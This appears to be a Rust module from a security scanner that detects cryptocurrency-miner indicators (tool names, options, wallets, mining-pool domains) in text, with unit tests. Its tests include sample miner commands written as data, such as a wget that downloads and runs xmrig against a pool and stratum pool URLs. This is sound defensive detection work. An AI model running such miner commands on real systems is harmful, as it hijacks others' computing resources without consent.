//! The marks of miners in text: names, options, wallets and pool domains. The list is `markers/miners.yaml`.

use std::sync::LazyLock;

use picket_model::Untrusted;
use picket_model::evidence::Marker;
use regex::{Regex, RegexBuilder};
use serde::Deserialize;

/// How many marks are reported; more add nothing.
const MOST_MARKS: usize = 8;
/// The name of the pattern that all domains make.
const POOL: &str = "pool-domain";

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct File {
    patterns: Vec<Pattern>,
    domains: Vec<String>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Pattern {
    name: String,
    regex: String,
}

static MARKS: LazyLock<Vec<(String, Regex)>> = LazyLock::new(|| load().unwrap_or_default());

fn load() -> Result<Vec<(String, Regex)>, String> {
    let file: File = serde_saphyr::from_str(include_str!("../markers/miners.yaml")).map_err(|e| e.to_string())?;
    let compile = |text: &str| RegexBuilder::new(text).case_insensitive(true).build().map_err(|e| e.to_string());
    let mut marks = Vec::new();
    for pattern in file.patterns {
        marks.push((pattern.name, compile(&pattern.regex)?));
    }
    // A label boundary before, and no further label after: `notsupportxmr.com` and `nicehash.com.example.org` are others.
    let names: Vec<_> = file.domains.iter().map(|d| regex::escape(d)).collect();
    let domains = format!(r"(?:^|[^a-z0-9-])((?:[a-z0-9-]+\.)*(?:{}))(?:[^a-z0-9.-]|\.?$|\.\s)", names.join("|"));
    marks.push((POOL.to_owned(), compile(&domains)?));
    Ok(marks)
}

/// The marks found in `text`, each pattern at most once.
#[must_use]
pub fn find(text: &str) -> Vec<Marker> {
    let found = |(name, regex): &(String, Regex)| {
        // The first group, where there is one, is the mark without what bounds it.
        let found = regex.captures(text)?;
        let mark = if name == POOL { found.get(1)? } else { found.get(0)? };
        Some(Marker { name: name.clone(), weight: 60, found: Untrusted::new(mark.as_str().trim()) })
    };
    MARKS.iter().filter_map(found).take(MOST_MARKS).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_list_is_well_formed() {
        assert!(load().is_ok_and(|marks| marks.len() > 5));
    }

    #[test]
    fn miners_are_found_by_name_option_wallet_and_pool() {
        for text in [
            "wget http://x/xmrig && ./xmrig --url=pool:3333",
            "-o stratum+tcp://randomxmonero.auto.nicehash.com:9200",
            "curl https://gulf.moneroocean.stream/",
            "./SRBMiner-MULTI --algorithm randomvirel",
            "{\"donate-level\": 1}",
            "host: pool.supportxmr.com",
        ] {
            assert!(!find(text).is_empty(), "{text}");
        }
    }

    #[test]
    fn innocent_text_is_not_called_a_miner() {
        for text in [
            "curl https://notsupportxmr.com/",
            "echo nicehash.com.example.org",
            "data mining with pandas; miner.py of the geology team",
            "yum install -y docker kubelet; systemctl enable --now kubelet",
            "#!/bin/bash\n/etc/eks/bootstrap.sh prod",
        ] {
            assert_eq!(find(text), [], "{text}");
        }
    }
}
